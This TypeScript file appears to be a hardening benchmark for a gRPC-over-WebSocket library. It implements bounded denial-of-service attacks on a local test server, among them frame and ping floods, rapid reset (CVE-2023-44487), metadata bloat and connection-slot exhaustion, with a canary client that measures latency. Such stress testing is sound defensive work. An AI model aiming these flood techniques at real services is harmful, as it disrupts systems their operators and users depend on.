/**
 * The attack classes of the hardening work, one function each, and a canary:
 * a well-behaved stock grpc-js client calling in a loop beside them.
 *
 * Every attack is bounded in count and time and stops by itself. It resolves
 * once its load is sent and held (its sockets still open, so the server's
 * memory can be measured under it) with what it sent and saw; `release()`
 * then closes its sockets. Frames are built with the protocol's own builders
 * and sent on raw `ws` sockets, batched into WebSocket messages of up to the
 * server's MAX_FRAME_SIZE.
 *
 * Legal attackers follow the window as decided for the fixed server: every
 * MESSAGE frame costs its payload + 5 bytes ({@link frameCost}); the code
 * before the fix charges less, so the same traffic is legal there too.
 */
import * as grpc from '@grpc/grpc-js'
import { performance } from 'node:perf_hooks'
import WebSocket from 'ws'
import { createWebSocketChannel } from '../../lib/client/grpc-js/index.js'
import { FrameDecoder, FrameFlags, FrameType, SUBPROTOCOL, encodeFrame } from '../../lib/protocol/frame.js'
import type { MetadataEntry } from '../../lib/protocol/metadata.js'
import { metadataSize } from '../../lib/protocol/metadata.js'
import {
  NO_TIMEOUT, buildCall, buildEmpty, buildPing, buildWindowUpdate, parseGoAway, parseSettings, parseTrailers, parseWindowUpdate, type Settings
} from '../../lib/protocol/payload.js'
import { TestClient, testDefinition } from './test-service.js'

/** What a MESSAGE frame of `payload` bytes costs of the stream window (decided behaviour). */
export const frameCost = (payload: number): number => payload + 5

const sleep = async (ms: number): Promise<void> => await new Promise(resolve => setTimeout(resolve, ms))
const turn = async (): Promise<void> => await new Promise(resolve => setImmediate(resolve))

/** Where an attack goes: the server process's addresses. */
export interface AttackTarget {
  /** ws://127.0.0.1:<port> */
  origin: string
  /** ws://127.0.0.1:<port>/grpc */
  wsUrl: string
}

export interface AttackStats {
  name: string
  /** grpc-ws.v1 frames, or grpc-websockets messages / upgrades, sent. */
  frames: number
  /** Bytes handed to the sockets (WebSocket payloads). */
  bytes: number
  ms: number
  connections: number
  /** Close codes of the attack's sockets, in order (1006: dropped without a close frame). */
  closeCodes: number[]
  /** HTTP statuses of refused upgrades, in order. */
  refused: number[]
  goaways: number
  /** Status codes of the TRAILERS received, by code. */
  trailers: Record<number, number>
  /** CPU of this process while the attack ran, ms. */
  cpuUserMs: number
  cpuSystemMs: number
  notes: string[]
}

export interface AttackRun {
  /** The load is in place (for the slot attack: the slots are taken). */
  loaded: Promise<void>
  /** The attack stopped sending; its sockets are still open. */
  finished: Promise<AttackStats>
  /** Closes every socket of the attack. */
  release: () => Promise<void>
}

export interface AttackOptions {
  /** Upper bound on the attack's sending time, ms. */
  ms?: number
  /** Source address for the attack's sockets (default: the OS's choice, 127.0.0.1). */
  localAddress?: string
}

const DEFAULT_SETTINGS: Settings = { maxConcurrentStreams: 100, initialWindowSize: 65536, maxFrameSize: 65536, maxMessageSize: 4194304, maxMetadataSize: 16384 }
/** The attacker's own send buffer is kept below this, so it cannot balloon itself. */
const OWN_BUFFER_LIMIT = 4 * 1024 * 1024

class Ledger {
  readonly stats: AttackStats
  private readonly cpu = process.cpuUsage()
  private readonly started = performance.now()
  readonly sockets = new Set<WebSocket>()

  constructor (name: string) {
    this.stats = { name, frames: 0, bytes: 0, ms: 0, connections: 0, closeCodes: [], refused: [], goaways: 0, trailers: {}, cpuUserMs: 0, cpuSystemMs: 0, notes: [] }
  }

  finish (): AttackStats {
    const cpu = process.cpuUsage(this.cpu)
    this.stats.ms = Math.round(performance.now() - this.started)
    this.stats.cpuUserMs = Math.round(cpu.user / 1000)
    this.stats.cpuSystemMs = Math.round(cpu.system / 1000)
    // A copy: closing the sockets on release() adds close codes to the live one.
    return { ...this.stats, closeCodes: [...this.stats.closeCodes], refused: [...this.stats.refused], trailers: { ...this.stats.trailers }, notes: [...this.stats.notes] }
  }

  note (text: string): void {
    if (!this.stats.notes.includes(text)) this.stats.notes.push(text)
  }
}

function launch (name: string, body: (ledger: Ledger, loaded: () => void) => Promise<void>): AttackRun {
  const ledger = new Ledger(name)
  let markLoaded!: () => void
  const loaded = new Promise<void>(resolve => { markLoaded = resolve })
  const finished = body(ledger, markLoaded).catch(err => { ledger.note(`attack error: ${(err as Error).message}`) }).then(async () => {
    markLoaded()
    // A close the server began is recorded before the figures are taken (bounded: 1 s).
    await Promise.all([...ledger.sockets].filter(ws => ws.readyState === WebSocket.CLOSING).map(async ws => {
      await Promise.race([new Promise(resolve => ws.once('close', resolve)), sleep(1000)])
    }))
    return ledger.finish()
  })
  return {
    loaded,
    finished,
    release: async () => {
      await finished
      for (const s of ledger.sockets) s.terminate()
      await sleep(50)
    }
  }
}

// --- a raw grpc-ws.v1 peer --------------------------------------------------------

/** A hand-driven grpc-ws.v1 client socket that keeps only counters, not frames. */
export class AttackPeer {
  readonly ws: WebSocket
  settings: Settings = DEFAULT_SETTINGS
  closeCode: number | null = null
  refusedStatus: number | null = null
  goaway = false
  /** Send credit per stream, as the server granted it. */
  readonly credit = new Map<number, number>()
  /** Streams that received TRAILERS. */
  readonly ended = new Set<number>()
  messagesReceived = 0
  private readonly decoder = new FrameDecoder(0x7fffffff)
  private readonly pings = new Map<number, () => void>()
  private pingCounter = 0
  private ready: Promise<boolean>

  constructor (url: string, private readonly ledger: Ledger, options: WebSocket.ClientOptions = {}) {
    this.ws = new WebSocket(url, [SUBPROTOCOL], { perMessageDeflate: false, ...options })
    ledger.sockets.add(this.ws)
    ledger.stats.connections++
    this.ready = new Promise<boolean>(resolve => {
      this.ws.on('message', (data: Buffer) => { if (this.receive(data)) resolve(true) })
      this.ws.once('close', () => { resolve(false) })
      this.ws.once('unexpected-response', (_req, res) => {
        this.refusedStatus = res.statusCode ?? 0
        ledger.stats.refused.push(this.refusedStatus)
        resolve(false)
        this.ws.terminate()
      })
    })
    this.ws.on('close', code => {
      this.closeCode = code
      if (this.refusedStatus === null) ledger.stats.closeCodes.push(code)
      for (const wake of this.pings.values()) wake()
    })
    this.ws.on('error', () => {})
  }

  /** Resolves true once SETTINGS arrived, false if the socket closed or was refused first. */
  async open (ms = 5000): Promise<boolean> {
    return await Promise.race([this.ready, sleep(ms).then(() => false)])
  }

  get closed (): boolean { return this.closeCode !== null || this.refusedStatus !== null || this.ws.readyState > WebSocket.OPEN }

  /** Returns true when this message carried SETTINGS. */
  private receive (data: Buffer): boolean {
    let sawSettings = false
    for (const frame of this.decoder.push(data)) {
      switch (frame.type) {
        case FrameType.SETTINGS:
          this.settings = parseSettings(frame.payload, DEFAULT_SETTINGS)
          sawSettings = true
          break
        case FrameType.WINDOW_UPDATE:
          this.credit.set(frame.streamId, (this.credit.get(frame.streamId) ?? 0) + parseWindowUpdate(frame.payload))
          break
        case FrameType.TRAILERS: {
          const code = parseTrailers(frame.payload).code
          this.ledger.stats.trailers[code] = (this.ledger.stats.trailers[code] ?? 0) + 1
          this.ended.add(frame.streamId)
          break
        }
        case FrameType.MESSAGE:
          if ((frame.flags & FrameFlags.MORE) === 0) this.messagesReceived++
          break
        case FrameType.GOAWAY:
          parseGoAway(frame.payload)
          this.goaway = true
          this.ledger.stats.goaways++
          break
        case FrameType.PING:
          if ((frame.flags & FrameFlags.ACK) !== 0) {
            const n = new DataView(frame.payload.buffer, frame.payload.byteOffset, 8).getUint32(4)
            this.pings.get(n)?.()
            this.pings.delete(n)
          }
          break
      }
    }
    return sawSettings
  }

  /** Opens a stream (credit: the server's initial window). */
  call (streamId: number, path: string, metadata: MetadataEntry[] = [], timeoutMs = NO_TIMEOUT): Uint8Array {
    this.credit.set(streamId, this.settings.initialWindowSize)
    return buildCall(streamId, { path, timeoutMs, initialWindowSize: 1 << 20, metadata })
  }

  /** Sends frames, packed greedily into WebSocket messages of at most MAX_FRAME_SIZE. */
  send (frames: Uint8Array[]): void {
    const limit = this.settings.maxFrameSize
    let batch: Uint8Array[] = []
    let size = 0
    const flush = (): void => {
      if (batch.length === 0) return
      const message = batch.length === 1 ? batch[0]! : Buffer.concat(batch, size)
      this.ws.send(message)
      this.ledger.stats.bytes += size
      batch = []
      size = 0
    }
    for (const f of frames) {
      if (size + f.byteLength > limit) flush()
      batch.push(f)
      size += f.byteLength
      this.ledger.stats.frames++
    }
    flush()
  }

  /** Sends one prebuilt WebSocket message holding `frames` frames. */
  sendBatch (message: Uint8Array, frames: number): void {
    this.ws.send(message)
    this.ledger.stats.bytes += message.byteLength
    this.ledger.stats.frames += frames
  }

  /** Waits until this side's own send buffer is small again; false when closed or past `deadline`. */
  async writable (deadline: number): Promise<boolean> {
    while (this.ws.bufferedAmount > OWN_BUFFER_LIMIT) {
      if (this.closed || performance.now() >= deadline) return false
      await sleep(2)
    }
    await turn()
    return !this.closed && performance.now() < deadline
  }

  /** A PING round trip: true once its ACK arrived (everything sent before it was read), false after `ms`. */
  async roundTrip (ms = 3000): Promise<boolean> {
    if (this.closed) return false
    const n = ++this.pingCounter
    const data = new Uint8Array(8)
    new DataView(data.buffer).setUint32(4, n)
    const acked = new Promise<boolean>(resolve => { this.pings.set(n, () => { resolve(!this.closed) }) })
    this.ws.send(buildPing(0, data))
    return await Promise.race([acked, sleep(ms).then(() => false)])
  }

  /** Polls (every 5 ms, up to `ms`) until `check` holds; false if the socket closed first or time ran out. */
  async until (check: () => boolean, ms: number): Promise<boolean> {
    const until = performance.now() + ms
    while (!check()) {
      if (this.closed || performance.now() >= until) return check()
      await sleep(5)
    }
    return true
  }

  /** Stops reading the socket: what the server sends piles up on its side. */
  stopReading (): void {
    const raw = (this.ws as unknown as { _socket?: { pause: () => void } })._socket
    raw?.pause()
  }
}

function repeated (frame: Uint8Array, count: number): Uint8Array {
  const out = new Uint8Array(frame.byteLength * count)
  for (let i = 0; i < count; i++) out.set(frame, i * frame.byteLength)
  return out
}

const BIDI = '/test.Test/Bidi'
const UNARY = '/test.Test/Unary'
const stall: MetadataEntry[] = [['x-attack', 'stall']]
const slow: MetadataEntry[] = [['x-attack', 'slow']]
/** A 2-byte Request (an empty `mode` field); and the empty Request. */
const TWO_BYTES = Uint8Array.of(0x0a, 0x00)
const message = (streamId: number, payload: Uint8Array, more = false): Uint8Array =>
  encodeFrame(FrameType.MESSAGE, more ? FrameFlags.MORE : 0, streamId, payload)

async function openPeer (target: AttackTarget, ledger: Ledger, options: AttackOptions): Promise<AttackPeer | null> {
  const peer = new AttackPeer(target.wsUrl, ledger, options.localAddress === undefined ? {} : { localAddress: options.localAddress })
  if (!(await peer.open())) { ledger.note('connection not ready'); return null }
  return peer
}

/**
 * An attack on one grpc-ws.v1 connection: opens it (noting when it is not
 * ready), then runs `body` with the peer and the attack's deadline
 * (`options.ms`, else `defaultMs`, from now).
 */
function launchOnPeer (name: string, target: AttackTarget, options: AttackOptions, defaultMs: number,
  body: (peer: AttackPeer, deadline: number, ledger: Ledger) => Promise<void>): AttackRun {
  return launch(name, async (ledger) => {
    const deadline = performance.now() + (options.ms ?? defaultMs)
    const peer = await openPeer(target, ledger, options)
    if (peer !== null) await body(peer, deadline, ledger)
  })
}

/** Waits (bounded) until the server has read everything sent so far. */
async function settle (peer: AttackPeer, ledger: Ledger): Promise<void> {
  if (peer.closed) return
  if (!(await peer.roundTrip())) ledger.note(peer.closed ? 'closed by the server' : 'server stopped reading (no PING ACK within 3 s)')
}

// --- 1, 2: MORE frames --------------------------------------------------------------

/** 1. Zero-length MESSAGE frames with MORE on one stream. */
export function emptyMoreFrames (target: AttackTarget, { frames = 300_000, ...options }: AttackOptions & { frames?: number } = {}): AttackRun {
  return launchOnPeer('empty MORE frames', target, options, 3000, async (peer, deadline, ledger) => {
    peer.send([peer.call(1, BIDI, stall)])
    const perBatch = Math.floor((peer.settings.maxFrameSize) / 10)
    const batch = repeated(message(1, new Uint8Array(0), true), perBatch)
    for (let sent = 0; sent < frames && await peer.writable(deadline); sent += perBatch) peer.sendBatch(batch, perBatch)
    await settle(peer, ledger)
  })
}

/**
 * 2. One-byte MORE pieces: on every stream the server allows, a message just
 * under maxReceiveMessageSize sent one byte per frame, never finished.
 * Follows the window (and any WINDOW_UPDATE).
 */
export function oneBytePieces (target: AttackTarget, options: AttackOptions = {}): AttackRun {
  return pieces('one-byte MORE pieces', target, options, 1)
}

/** Extra: every stream holds a partial message just under maxReceiveMessageSize, in large pieces. */
export function partialMessages (target: AttackTarget, options: AttackOptions = {}): AttackRun {
  return pieces('partial messages under the size limit', target, options, 0)
}

function pieces (name: string, target: AttackTarget, options: AttackOptions, pieceSize: number): AttackRun {
  return launch(name, async (ledger) => {
    const deadline = performance.now() + (options.ms ?? 3000)
    const peer = await openPeer(target, ledger, options)
    if (peer === null) return
    const streams = Math.min(peer.settings.maxConcurrentStreams, 100)
    const piece = pieceSize === 0 ? Math.min(peer.settings.maxFrameSize - 10, 16384) : pieceSize
    const total = peer.settings.maxMessageSize - 1
    const sent = new Map<number, number>()
    const ids: number[] = []
    for (let i = 0; i < streams; i++) { ids.push(2 * i + 1); sent.set(2 * i + 1, 0) }
    peer.send(ids.map(id => peer.call(id, BIDI, stall)))
    const pieceFrames = new Map(ids.map(id => [id, message(id, new Uint8Array(piece).fill(0x41), true)]))
    let progress = true
    while (progress && await peer.writable(deadline)) {
      progress = false
      for (const id of ids) {
        const batch: Uint8Array[] = []
        let credit = peer.credit.get(id)!
        let done = sent.get(id)!
        while (batch.length < 4096 && done + piece <= total && credit >= frameCost(piece) && !peer.ended.has(id)) {
          batch.push(pieceFrames.get(id)!)
          credit -= frameCost(piece)
          done += piece
        }
        if (batch.length === 0) continue
        progress = true
        peer.credit.set(id, credit)
        sent.set(id, done)
        peer.send(batch)
      }
      if (!progress) {
        // Out of credit everywhere: give a WINDOW_UPDATE a moment to arrive.
        await settle(peer, ledger)
        progress = ids.some(id => peer.credit.get(id)! >= frameCost(piece) && sent.get(id)! + piece <= total)
      }
    }
    await settle(peer, ledger)
  })
}

// --- 3, 4: many small messages to handlers that do not read -------------------------

/** 3. Fully legal: every stream allowed, each sent its window of 2-byte messages; the handlers never read. */
export function tinyMessages (target: AttackTarget, options: AttackOptions = {}): AttackRun {
  return launchOnPeer('a window of 2-byte messages per stream', target, options, 3000, async (peer, deadline, ledger) => {
    const streams = Math.min(peer.settings.maxConcurrentStreams, 100)
    const ids = Array.from({ length: streams }, (_, i) => 2 * i + 1)
    peer.send(ids.map(id => peer.call(id, BIDI, stall)))
    for (const id of ids) {
      const count = Math.floor(peer.credit.get(id)! / frameCost(TWO_BYTES.byteLength))
      const frame = message(id, TWO_BYTES)
      const perBatch = Math.floor(peer.settings.maxFrameSize / frame.byteLength)
      const batch = repeated(frame, perBatch)
      let left = count
      while (left > 0 && await peer.writable(deadline)) {
        const n = Math.min(left, perBatch)
        peer.sendBatch(n === perBatch ? batch : batch.subarray(0, n * frame.byteLength), n)
        left -= n
      }
      peer.credit.set(id, 0)
    }
    await settle(peer, ledger)
  })
}

/** 4. Zero-length messages to slow-reading bidi handlers, sent regardless of the window, until each stream is ended. */
export function zeroLengthMessages (target: AttackTarget, { messages = 200_000, ...options }: AttackOptions & { messages?: number } = {}): AttackRun {
  return launchOnPeer('zero-length messages to a slow reader', target, options, 3000, async (peer, deadline, ledger) => {
    const streams = Math.min(peer.settings.maxConcurrentStreams, 10)
    const ids = Array.from({ length: streams }, (_, i) => 2 * i + 1)
    peer.send(ids.map(id => peer.call(id, BIDI, slow)))
    const perBatch = Math.floor(peer.settings.maxFrameSize / 10)
    const batches = new Map(ids.map(id => [id, repeated(message(id, new Uint8Array(0)), perBatch)]))
    let sent = 0
    while (sent < messages && await peer.writable(deadline)) {
      const open = ids.filter(id => !peer.ended.has(id))
      if (open.length === 0) { ledger.note('every stream ended by the server'); break }
      for (const id of open) { peer.sendBatch(batches.get(id)!, perBatch); sent += perBatch }
    }
    await settle(peer, ledger)
  })
}

// --- 5: control traffic from a peer that does not read ------------------------------

/** 5a. A peer that never reads sends PINGs: the ACKs pile up on the server's side. */
export function pingFlood (target: AttackTarget, { pings = 5_000_000, ...options }: AttackOptions & { pings?: number } = {}): AttackRun {
  return launchOnPeer('PING flood, not reading', target, options, 3000, async (peer, deadline, ledger) => {
    peer.stopReading()
    const perBatch = Math.floor(peer.settings.maxFrameSize / 18)
    const batch = repeated(buildPing(0, new Uint8Array(8)), perBatch)
    for (let sent = 0; sent < pings && await peer.writable(deadline); sent += perBatch) peer.sendBatch(batch, perBatch)
    if (peer.ws.bufferedAmount > 0) ledger.note(`${(peer.ws.bufferedAmount / 1e6).toFixed(1)} MB still in the attacker's send buffer at the end`)
  })
}

/**
 * 5b. A peer that never reads sends CALLs that are refused: an unknown method
 * whose 4 KiB path the refusal's details repeat, so each refusal queues as
 * much as its CALL cost to send.
 */
export function refusedCalls (target: AttackTarget, { calls = 1_000_000, ...options }: AttackOptions & { calls?: number } = {}): AttackRun {
  return launchOnPeer('refused CALL flood, not reading', target, options, 3000, async (peer, deadline, ledger) => {
    peer.stopReading()
    const path = '/test.Test/' + 'N'.repeat(4096)
    let id = 1
    while (id < 2 * calls && await peer.writable(deadline)) {
      const batch: Uint8Array[] = []
      for (let i = 0; i < 100; i++, id += 2) batch.push(buildCall(id, { path, timeoutMs: NO_TIMEOUT, initialWindowSize: 65536, metadata: [] }))
      peer.send(batch)
    }
    if (peer.ws.bufferedAmount > 0) ledger.note(`${(peer.ws.bufferedAmount / 1e6).toFixed(1)} MB still in the attacker's send buffer at the end`)
  })
}

// --- 6: rapid reset -----------------------------------------------------------------

/** 6. CALL then CANCEL in a loop (CVE-2023-44487), reconnecting when closed, up to `connections` times. */
export function rapidReset (target: AttackTarget, { pairs = 2_000_000, connections = 20, ...options }: AttackOptions & { pairs?: number, connections?: number } = {}): AttackRun {
  return launch('rapid reset', async (ledger) => {
    const deadline = performance.now() + (options.ms ?? 3000)
    let sent = 0
    for (let c = 0; c < connections && sent < pairs && performance.now() < deadline; c++) {
      const peer = await openPeer(target, ledger, options)
      if (peer === null) return
      let id = 1
      const cancel = buildEmpty(FrameType.CANCEL, 0)
      while (sent < pairs && await peer.writable(deadline)) {
        const batch: Uint8Array[] = []
        for (let i = 0; i < 500; i++, id += 2, sent++) {
          batch.push(buildCall(id, { path: BIDI, timeoutMs: NO_TIMEOUT, initialWindowSize: 65536, metadata: [] }))
          const frame = cancel.slice()
          new DataView(frame.buffer).setUint32(2, id)
          batch.push(frame)
        }
        peer.send(batch)
      }
      if (peer.closed) continue
      await settle(peer, ledger)
      if (!peer.closed) break
    }
  })
}

// --- 7: repeated-key metadata -------------------------------------------------------

/** Metadata repeating one key until the block is just under `limit` bytes. */
export function repeatedKeyMetadata (limit: number): MetadataEntry[] {
  const entries: MetadataEntry[] = []
  while (metadataSize([...entries, ['x-r', 'a']]) <= limit) entries.push(['x-r', 'a'])
  return entries
}

/** 7. Unary calls whose CALL metadata repeats one key to fill maxMetadataSize, up to the stream limit in flight. */
export function repeatedKeyCalls (target: AttackTarget, { calls = 100_000, ...options }: AttackOptions & { calls?: number } = {}): AttackRun {
  return launchOnPeer('repeated-key metadata', target, options, 3000, async (peer, deadline, ledger) => {
    const metadata = repeatedKeyMetadata(peer.settings.maxMetadataSize - 64)
    const inFlight = Math.min(peer.settings.maxConcurrentStreams, 8)
    const body = testDefinition.Unary!.requestSerialize({ mode: 'echo', message: 'x' })
    let id = 1
    let started = 0
    const open = new Set<number>()
    while (started < calls && !peer.closed && performance.now() < deadline) {
      for (const done of [...open]) if (peer.ended.has(done)) open.delete(done)
      const batch: Uint8Array[] = []
      while (open.size < inFlight && started < calls) {
        batch.push(peer.call(id, UNARY, metadata), message(id, body), buildEmpty(FrameType.HALF_CLOSE, id))
        open.add(id)
        id += 2
        started++
      }
      if (batch.length > 0) peer.send(batch)
      await sleep(1)
    }
    await settle(peer, ledger)
  })
}

// --- 8: an interceptor throwing on one call's message ------------------------------

/**
 * 8. On one connection, calls whose message makes an interceptor throw,
 * beside the attacker's own well-behaved bidi stream; each round checks that
 * stream still echoes. The note 'other calls on the connection go on' or
 * 'the connection's other call stopped' says which.
 */
export function interceptorThrows (target: AttackTarget, { calls = 2000, ...options }: AttackOptions & { calls?: number } = {}): AttackRun {
  return launchOnPeer('interceptor throwing on messages', target, options, 2000, async (peer, deadline, ledger) => {
    const body = testDefinition.Unary!.requestSerialize({ mode: 'echo', message: 'x' })
    const keep = 1
    peer.send([peer.call(keep, BIDI)])
    let id = 3
    let started = 0
    let echoes = 0
    let stopped = false
    while (started < calls && !peer.closed && performance.now() < deadline) {
      const batch: Uint8Array[] = []
      for (let i = 0; i < 20; i++, id += 2, started++) {
        batch.push(peer.call(id, UNARY, [['x-attack', 'throw']]), message(id, body), buildEmpty(FrameType.HALF_CLOSE, id))
      }
      const before = peer.messagesReceived
      batch.push(message(keep, body))
      peer.send(batch)
      if (!(await peer.until(() => peer.messagesReceived > before, 3000))) {
        stopped = true
        break
      }
      echoes++
    }
    ledger.note(stopped || peer.closed ? 'the connection\'s other call stopped' : 'other calls on the connection go on')
    ledger.stats.notes.push(`kept stream echoed ${echoes} times`)
  })
}

// --- 9: connection slots ------------------------------------------------------------

/** 9. One address opens `count` connections at once and holds them. */
export function connectionSlots (target: AttackTarget, { count = 64, ...options }: AttackOptions & { count?: number } = {}): AttackRun {
  return launch('one address taking connection slots', async (ledger, loaded) => {
    const peers = Array.from({ length: count }, () => new AttackPeer(target.wsUrl, ledger, options.localAddress === undefined ? {} : { localAddress: options.localAddress }))
    const opened = await Promise.all(peers.map(async p => await p.open()))
    ledger.stats.frames = opened.filter(Boolean).length
    ledger.note(`${opened.filter(Boolean).length} of ${count} connections accepted`)
    loaded()
    // Held for the attack's time (bounded), while the canary connects.
    await sleep(options.ms ?? 1500)
  })
}

// --- extras on grpc-ws.v1 -----------------------------------------------------------

/** Extra: WINDOW_UPDATE frames of increment 1 on an open stream, as fast as they go. */
export function windowUpdateFlood (target: AttackTarget, { frames = 3_000_000, ...options }: AttackOptions & { frames?: number } = {}): AttackRun {
  return launchOnPeer('WINDOW_UPDATE flood', target, options, 3000, async (peer, deadline, ledger) => {
    peer.send([peer.call(1, '/test.Test/ServerStream'), message(1, testDefinition.ServerStream!.requestSerialize({ mode: 'endless' })), buildEmpty(FrameType.HALF_CLOSE, 1)])
    const perBatch = Math.floor(peer.settings.maxFrameSize / 14)
    const batch = repeated(buildWindowUpdate(1, 1), perBatch)
    for (let sent = 0; sent < frames && await peer.writable(deadline); sent += perBatch) peer.sendBatch(batch, perBatch)
    await settle(peer, ledger)
  })
}

/** Extra: WebSocket ping control frames (125 bytes) from a peer that never reads: the pongs pile up. */
export function wsPingFlood (target: AttackTarget, { pings = 2_000_000, ...options }: AttackOptions & { pings?: number } = {}): AttackRun {
  return launchOnPeer('WebSocket ping flood, not reading', target, options, 3000, async (peer, deadline, ledger) => {
    peer.stopReading()
    const data = Buffer.alloc(125, 1)
    let sent = 0
    while (sent < pings && await peer.writable(deadline)) {
      for (let i = 0; i < 1000; i++, sent++) peer.ws.ping(data)
      ledger.stats.frames += 1000
      ledger.stats.bytes += 1000 * 125
    }
    if (peer.ws.bufferedAmount > 0) ledger.note(`${(peer.ws.bufferedAmount / 1e6).toFixed(1)} MB still in the attacker's send buffer at the end`)
  })
}

// --- the grpc-websockets route ------------------------------------------------------

/** A gRPC length-prefixed message. */
function lpm (payload: Uint8Array, length = payload.byteLength): Buffer {
  const out = Buffer.alloc(5 + payload.byteLength)
  out.writeUInt32BE(length, 1)
  out.set(payload, 5)
  return out
}
const headerBlock = (lines: string[]): Buffer =>
  Buffer.from([...lines, 'content-type: application/grpc-web+proto', 'x-grpc-web: 1'].map(l => l + '\r\n').join(''), 'latin1')

class CompatSocket {
  readonly ws: WebSocket
  closeCode: number | null = null
  private readonly ready: Promise<boolean>

  constructor (url: string, private readonly ledger: Ledger, options: AttackOptions) {
    this.ws = new WebSocket(url, ['grpc-websockets'], { perMessageDeflate: false, ...(options.localAddress === undefined ? {} : { localAddress: options.localAddress }) })
    ledger.sockets.add(this.ws)
    ledger.stats.connections++
    this.ready = new Promise<boolean>(resolve => {
      this.ws.once('open', () => { resolve(true) })
      this.ws.once('close', () => { resolve(false) })
      this.ws.once('unexpected-response', (_req, res) => { ledger.stats.refused.push(res.statusCode ?? 0); resolve(false); this.ws.terminate() })
    })
    this.ws.on('close', code => { this.closeCode = code; ledger.stats.closeCodes.push(code) })
    this.ws.on('error', () => {})
  }

  async open (ms = 5000): Promise<boolean> { return await Promise.race([this.ready, sleep(ms).then(() => false)]) }

  get closed (): boolean { return this.closeCode !== null || this.ws.readyState > WebSocket.OPEN }

  send (data: Uint8Array, count = 1): void {
    this.ws.send(data)
    this.ledger.stats.frames += count
    this.ledger.stats.bytes += data.byteLength
  }

  async writable (deadline: number): Promise<boolean> {
    while (this.ws.bufferedAmount > OWN_BUFFER_LIMIT) {
      if (this.closed || performance.now() >= deadline) return false
      await sleep(2)
    }
    await turn()
    return !this.closed && performance.now() < deadline
  }

  async closedWithin (ms: number): Promise<void> {
    if (this.closed) return
    await Promise.race([new Promise(resolve => this.ws.once('close', resolve)), sleep(ms)])
  }
}

/** 11a. grpc-websockets: zero-length data messages (10,000 gRPC messages per WebSocket message) to slow-reading bidi handlers. */
export function compatZeroLength (target: AttackTarget, { sockets = 2, messages = 200_000, ...options }: AttackOptions & { sockets?: number, messages?: number } = {}): AttackRun {
  return launch('grpc-websockets: zero-length data messages', async (ledger) => {
    const deadline = performance.now() + (options.ms ?? 3000)
    const all = Array.from({ length: sockets }, () => new CompatSocket(`${target.origin}/grpc/test.Test/Bidi`, ledger, options))
    const perMessage = 10_000
    const chunk = Buffer.concat([Buffer.of(0), repeated(lpm(new Uint8Array(0)), perMessage)])
    await Promise.all(all.map(async s => {
      if (!(await s.open())) return
      s.send(headerBlock(['x-attack: slow']))
      for (let sent = 0; sent < messages && await s.writable(deadline); sent += perMessage) s.send(chunk, perMessage)
    }))
    await sleep(200)
  })
}

/** 11b. grpc-websockets: one request just under maxReceiveMessageSize sent as one-byte data messages, per socket. */
export function compatOneByte (target: AttackTarget, { sockets = 4, length = 65535, ...options }: AttackOptions & { sockets?: number, length?: number } = {}): AttackRun {
  return launch('grpc-websockets: one request as one-byte data messages', async (ledger) => {
    const deadline = performance.now() + (options.ms ?? 3000)
    const all = Array.from({ length: sockets }, () => new CompatSocket(`${target.origin}/grpc/test.Test/ClientStream`, ledger, options))
    const byte = Buffer.of(0, 0x41)
    await Promise.all(all.map(async s => {
      if (!(await s.open())) return
      s.send(headerBlock(['x-attack: stall']))
      s.send(Buffer.concat([Buffer.of(0), lpm(new Uint8Array(0), length)]))
      for (let sent = 0; sent < length - 1 && await s.writable(deadline);) {
        for (let i = 0; i < 1000 && sent < length - 1; i++, sent++) s.send(byte)
      }
    }))
    await sleep(200)
  })
}

/** 12. grpc-websockets: upgrades whose header block is 5,461 `a:` lines, `concurrency` at a time, for the attack's time. */
export function compatHeaderLines (target: AttackTarget, { upgrades = 100_000, concurrency = 3, lines = 5461, ...options }: AttackOptions & { upgrades?: number, concurrency?: number, lines?: number } = {}): AttackRun {
  return launch('grpc-websockets: header block of repeated lines', async (ledger) => {
    const deadline = performance.now() + (options.ms ?? 3000)
    const block = Buffer.from('a:\n'.repeat(lines), 'latin1')
    const request = Buffer.concat([Buffer.of(0), lpm(testDefinition.Unary!.requestSerialize({ mode: 'echo', message: 'x' }))])
    let started = 0
    await Promise.all(Array.from({ length: concurrency }, async () => {
      while (started < upgrades && performance.now() < deadline) {
        started++
        const s = new CompatSocket(`${target.origin}/grpc/test.Test/Unary`, ledger, options)
        if (await s.open()) {
          s.send(block)
          s.send(request)
          s.send(Buffer.of(1))
          await s.closedWithin(2000)
        }
        s.ws.terminate()
        ledger.sockets.delete(s.ws)
      }
    }))
  })
}

// --- the catalogue ------------------------------------------------------------------

export interface AttackClass {
  /** Short id, for the command line: `npm run bench:attacks -- <id>`. */
  id: string
  /** The finding number, or 'extra'. */
  finding: string
  run: (target: AttackTarget, options: AttackOptions) => AttackRun
  /** The canary starts once the load is in place (the slot attack), not with it. */
  canaryAfterLoad?: boolean
}

export const ATTACKER_ADDRESS = '127.0.0.2'

export const attackClasses: AttackClass[] = [
  { id: 'empty-more', finding: '1', run: emptyMoreFrames },
  { id: 'one-byte-pieces', finding: '2', run: oneBytePieces },
  { id: 'tiny-messages', finding: '3', run: tinyMessages },
  { id: 'zero-length', finding: '4', run: zeroLengthMessages },
  { id: 'ping-flood', finding: '5', run: pingFlood },
  { id: 'refused-calls', finding: '5', run: refusedCalls },
  { id: 'rapid-reset', finding: '6', run: rapidReset },
  { id: 'repeated-key', finding: '7', run: repeatedKeyCalls },
  { id: 'interceptor-throws', finding: '8', run: interceptorThrows },
  { id: 'connection-slots', finding: '9', run: (target, options) => connectionSlots(target, { ...options, localAddress: ATTACKER_ADDRESS }), canaryAfterLoad: true },
  { id: 'compat-zero-length', finding: '11', run: compatZeroLength },
  { id: 'compat-one-byte', finding: '11', run: compatOneByte },
  { id: 'compat-header-lines', finding: '12', run: compatHeaderLines },
  { id: 'partial-messages', finding: 'extra', run: partialMessages },
  { id: 'window-update-flood', finding: 'extra', run: windowUpdateFlood },
  { id: 'ws-ping-flood', finding: 'extra', run: wsPingFlood }
]

// --- the canary ---------------------------------------------------------------------

export interface CanaryCall { ms: number, code: number, details: string }
export interface CanaryResult {
  websocket: CanaryCall[]
  http2: CanaryCall[]
  cpuUserMs: number
  cpuSystemMs: number
  wallMs: number
}

/** p-th percentile (0–100) of the successful calls' latencies, ms; NaN without any. */
export function percentile (calls: CanaryCall[], p: number): number {
  const sorted = calls.filter(c => c.code === 0).map(c => c.ms).sort((a, b) => a - b)
  if (sorted.length === 0) return NaN
  return sorted[Math.min(sorted.length - 1, Math.ceil((p / 100) * sorted.length) - 1)]!
}

/**
 * A well-behaved stock grpc-js client: unary echo calls one after another,
 * over createWebSocketChannel and over HTTP/2 at once, each call's latency
